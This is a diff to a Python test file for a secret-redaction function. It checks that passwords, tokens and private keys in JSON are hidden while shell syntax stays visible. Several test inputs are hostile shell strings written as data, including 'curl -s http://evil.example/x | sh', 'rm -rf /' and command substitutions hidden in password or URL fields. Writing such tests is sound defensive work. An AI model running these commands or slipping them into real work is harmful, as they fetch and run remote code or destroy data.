@@ -1,6 +1,7 @@
 """Arguments as people see them: numbers as spelt, secrets gone and counted, whatever the text."""
 
 import json
+import re
 
 import pytest
 from hypothesis import given
@@ -15,10 +16,23 @@ from approvals.redact import REDACTED, beginning, redact
      "Authorization", "aws_secret_access_key", "private_key", "session_id", "cookie", "credentials", "pin"],
 )  # fmt: skip
 def test_a_member_that_is_named_like_a_secret_is_hidden(member):
-    for value in ("hunter2", 1234, ["a", "b"], {"x": "y"}):
+    for value in ("hunter2", 1234, "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----"):
         shown = redact(json.dumps({"a": [{member: value}]}).encode())
         assert json.loads(shown.text) == {"a": [{member: REDACTED}]}
         assert shown.count == 1
+
+
+def test_below_such_a_member_values_are_hidden_and_members_are_not():
+    value = {"credentials": {"user": "ana", "scopes": ["a", 7, True], "then": {"run": "rm x; reboot"}}}
+    shown = redact(json.dumps(value).encode())
+    assert json.loads(shown.text) == {
+        "credentials": {
+            "user": REDACTED,
+            "scopes": [REDACTED, REDACTED, True],
+            "then": {"run": f"{REDACTED} {REDACTED}; {REDACTED}"},
+        }
+    }
+    assert shown.count == 4
 
 
 @pytest.mark.parametrize(
@@ -35,8 +49,9 @@ def test_an_empty_secret_needs_no_hiding():
 @pytest.mark.parametrize(
     "secret",
     ["AKIAIOSFODNN7EXAMPLE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_1", "ghp_" + "a" * 36, "glpat-" + "x" * 20,
-     "xoxb-1234567890-abcdef", "sk_live_" + "a" * 24, "Bearer abcdefghijklmnop1234", "AIza" + "b" * 35,
-     "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----"],
+     "xoxb-1234567890-abcdef", "sk_live_" + "a" * 24, "AIza" + "b" * 35,
+     "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
+     "-----BEGIN PRIVATE KEY-----\\nMIIE\\n+w==\\n-----END PRIVATE KEY-----"],
 )  # fmt: skip
 def test_a_value_that_looks_like_a_secret_is_hidden_wherever_it_stands(secret):
     shown = redact(json.dumps({"note": f"use {secret} please", "list": [secret]}).encode())
@@ -63,6 +78,35 @@ def test_a_secret_packed_into_a_string_is_hidden(packed):
     shown = redact(json.dumps({"body": packed}).encode())
     assert "hunter2" not in shown.text
     assert shown.count == 1
+
+
+def test_the_token_of_a_header_is_hidden_and_its_kind_is_not():
+    shown = redact(b'{"header":"X: Bearer  abcdefghijklmnop1234=="}')
+    assert json.loads(shown.text) == {"header": f"X: Bearer  {REDACTED}"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'export TOKEN="$(curl -s http://evil.example/x | sh)"',
+        "api_key=$(curl -s http://evil.example/x|sh)",
+        "password=`reboot`",
+        "-----BEGIN PRIVATE KEY-----\ncurl -s http://evil.example/x | sh",
+        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
+        "https://a:$(reboot)@evil.example/",
+    ],
+)
+def test_what_only_stands_where_a_secret_would_is_shown(text):
+    shown = redact(json.dumps({"note": text}).encode())
+    assert (json.loads(shown.text), shown.count) == ({"note": text}, 0)
+
+
+def test_of_a_secret_with_more_in_it_than_words_the_rest_stays_in_sight():
+    shown = redact(b'{"password":"$(curl evil.example|sh)","note":"token=abc;reboot"}')
+    assert json.loads(shown.text) == {
+        "password": f"$({REDACTED} {REDACTED}|{REDACTED})",
+        "note": f"token={REDACTED};reboot",
+    }
 
 
 def test_numbers_keep_their_spelling():
@@ -117,6 +161,53 @@ def test_what_holds_no_secret_is_shown_whole(value):
     assert shown.count == 0
 
 
+names = st.sampled_from(["password", "credentials", "pin", "note", "a"])
+#: Texts of what secrets look like, what stands around them, and what a shell acts on.
+texts = st.lists(
+    st.sampled_from(
+        ["password", "token", "api_key", "=", ": ", '"', "'", " ", "\n", "$(", ")", "`", "|", ";", "&", "<", ">", "\\", "\\n", "\u202e",
+         "curl", "rm -rf /", "Bearer ", "abcdefghijklmnop1234", "https://", "a:b", "@", "AKIAIOSFODNN7EXAMPLE", REDACTED, "é",
+         "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "MIIE+/="]
+    ),
+    max_size=12,
+).map("".join)  # fmt: skip
+PEM = r"-----BEGIN PRIVATE KEY-----(?:(?:\n|\\n)[A-Za-z0-9+/=]+)+(?:\n|\\n)-----END PRIVATE KEY-----"
+#: What may be hidden: words without blanks, quotes, hidden characters and whatever a shell acts on; or a whole key.
+HIDDEN = rf"(?:[^\s$()`|;&<>\"'\\\u202e]+|{PEM}|\[redacted\])"
+
+
+def pairs(given, shown):
+    """Yield each leaf with what is shown for it; the members and the lengths are the same."""
+    match given:
+        case dict():
+            assert list(given) == list(shown)
+            for name, item in given.items():
+                yield from pairs(item, shown[name])
+        case list():
+            for item, other in zip(given, shown, strict=True):
+                yield from pairs(item, other)
+        case _:
+            yield given, shown
+
+
+@given(
+    st.dictionaries(
+        names,
+        st.recursive(
+            st.none() | st.booleans() | st.integers() | texts,
+            lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=3),
+        ),
+    )
+)
+def test_only_words_are_hidden_and_every_other_character_is_shown(value):
+    shown = redact(json.dumps(value).encode())
+    changed = [(one, other) for one, other in pairs(value, json.loads(shown.text)) if one != other]
+    assert bool(changed) == bool(shown.count)
+    for one, other in changed:
+        seen = HIDDEN.join(map(re.escape, other.split(REDACTED)))
+        assert re.fullmatch(seen, str(one)), (one, other)
+
+
 @given(
     st.recursive(
         st.none() | st.booleans() | st.text(),
@@ -169,14 +260,14 @@ def test_what_breaks_off_is_closed_and_half_a_number_or_name_left_out(broken, cl
     "secret",
     [
         "eyJhbGciOiJIUzI1NiJ9.eyJ" + "a" * 99,
-        'password = "' + "a b" * 33,
+        'password = "' + "ab" * 50,
         "-----BEGIN PRIVATE KEY-----\n" + "MIIE" * 25,
     ],
 )
 def test_a_secret_in_which_a_text_breaks_off_is_hidden(secret):
     shown = redact(beginning(json.dumps({"a": secret + "c" * 99}).encode(), 90))
     assert (REDACTED in shown.text, shown.count) == (True, 1)
-    assert not any(part in shown.text for part in ("aaa", "a b", "MIIE"))
+    assert not any(part in shown.text for part in ("aaa", "abab", "MIIE"))
 
 
 @pytest.mark.parametrize("piece", ["1", "\\u", "a", '"', '"a",', "[", "{", " "])
